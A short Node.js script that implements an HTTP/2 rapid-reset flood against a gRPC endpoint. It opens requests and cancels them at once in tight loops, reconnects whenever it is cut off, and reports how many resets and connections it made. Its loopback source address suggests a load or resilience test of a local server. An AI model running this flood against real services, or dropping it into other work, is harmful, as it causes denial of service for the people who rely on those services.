// Calls and resets at once, over and over, from an address of its own; connects anew when it is cut off.
import http2 from 'node:http2';
import net from 'node:net';

const [url, seconds] = [process.argv[2], Number(process.argv[3])];
const { hostname, port } = new URL(url);
const call = { ':method': 'POST', ':path': '/exchange.v1.CatalogService/ListResources', 'content-type': 'application/grpc', te: 'trailers' };
let resets = 0;
let connections = 0;

function connect() {
  const session = http2.connect(url, { createConnection: () => net.connect({ host: hostname, port: Number(port), localAddress: '127.0.0.9' }) });
  let ended = false;
  const end = () => {
    if (!ended) {
      ended = true;
      session.destroy();
      setImmediate(connect);
    }
  };
  connections++;
  session.on('error', end).on('close', end).on('goaway', end);
  session.on('connect', function flood() {
    for (let i = 0; i < 100 && !ended; i++) {
      try {
        const stream = session.request(call);
        stream.on('error', () => {});
        stream.close(http2.constants.NGHTTP2_CANCEL);
        resets++;
      } catch {
        end();
      }
    }
    if (!ended) setImmediate(flood);
  });
}

for (let i = 0; i < 4; i++) connect();
setTimeout(() => {
  console.log(JSON.stringify({ resets, connections }));
  process.exit(0);
}, seconds * 1000);
